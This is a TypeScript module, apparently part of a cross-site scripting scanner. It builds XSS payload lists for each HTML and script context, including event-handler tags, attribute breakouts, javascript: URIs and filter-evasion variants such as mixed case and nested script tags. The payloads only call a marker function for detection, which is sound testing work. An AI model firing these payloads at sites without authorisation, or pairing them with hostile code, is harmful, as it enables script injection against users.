import type { Context, Inner } from './contexts.ts';

/** Texts that become script where they stand. All they do is call one function that the browser of the scan knows. */

type Call = { plain: string; tagged: string };

const elements = ({ plain, tagged }: Call): string[] => [
  `<img src=x onerror=${plain}>`,
  `<svg/onload=${plain}>`,
  `<script>${plain}</script>`,
  `<ImG sRc=x OnErRoR=${plain}>`,
  `<details open ontoggle=${tagged}>x</details>`,
  `<scr<script>ipt>${plain}</scr</script>ipt>`,
  `<sCrIpT>${plain}</sCrIpT >`,
  `<input autofocus onfocus=${plain}>`,
];

const attributes = ({ plain, tagged }: Call, quote: string): string[] => {
  const end = quote === '' ? ' x=' : ` x=${quote}`;
  return [
    `${quote} autofocus onfocus=${plain}${end}`,
    `${quote} onmouseover=${plain}${end}`,
    `${quote} onfocus=${tagged} autofocus tabindex=1${end}`,
    `${quote}/onpointerenter=${plain}${end}`,
  ];
};

const addresses = ({ plain }: Call): string[] => [`javascript:${plain}`, `JaVaScRiPt:${plain}`, `java\tscript:${plain}`];

const scripts = ({ plain, tagged }: Call, inner: Inner): string[] => {
  if (inner === 'code') return [plain, `0;${plain};//`, `1-${plain}`, `0)${plain}//`, tagged];
  if (inner === 'line') return [`\n${plain}//`, `\r${plain}//`];
  if (inner === 'block') return [`*/${plain}/*`, `*/;${plain};/*`];
  if (inner === '`') return [`\${${plain}}`, `\`-${plain}-\``];
  return [
    `${inner}-${plain}-${inner}`,
    `${inner};${plain};//`,
    `\\${inner};${plain};//`,
    `\\${inner}-${plain}//`,
    `${inner});${plain};//`,
    `${inner}+${tagged}+${inner}`,
  ];
};

/** Attempts for one place, the likeliest first. `name` is the function to call, `id` what it is to be told. */
export function payloadsFor(context: Context, name: string, id: string): string[] {
  const call: Call = { plain: `${name}(${id})`, tagged: `${name}\`${id}\`` };
  const inside = elements(call);
  const behind = (prefix: string) => inside.map((element) => prefix + element);
  switch (context.kind) {
    case 'text':
      return inside;
    case 'raw':
      return behind(`</${context.tag}>`);
    case 'comment':
      return behind('-->');
    case 'tag':
      return [`x onmouseover=${call.plain} `, ...behind('>').slice(0, 3)];
    case 'attribute':
      return [...behind(`${context.quote}>`).slice(0, 1), ...attributes(call, context.quote), ...behind(`${context.quote}>`).slice(1)];
    case 'address':
      return [...addresses(call), ...behind(`${context.quote}>`).slice(0, 2), ...attributes(call, context.quote).slice(0, 2)];
    case 'handler':
      return [...scripts(call, context.inner), ...behind(`${context.quote}>`).slice(0, 2)];
    case 'script':
      return [...scripts(call, context.inner), ...behind('</script>').slice(0, 3)];
  }
}
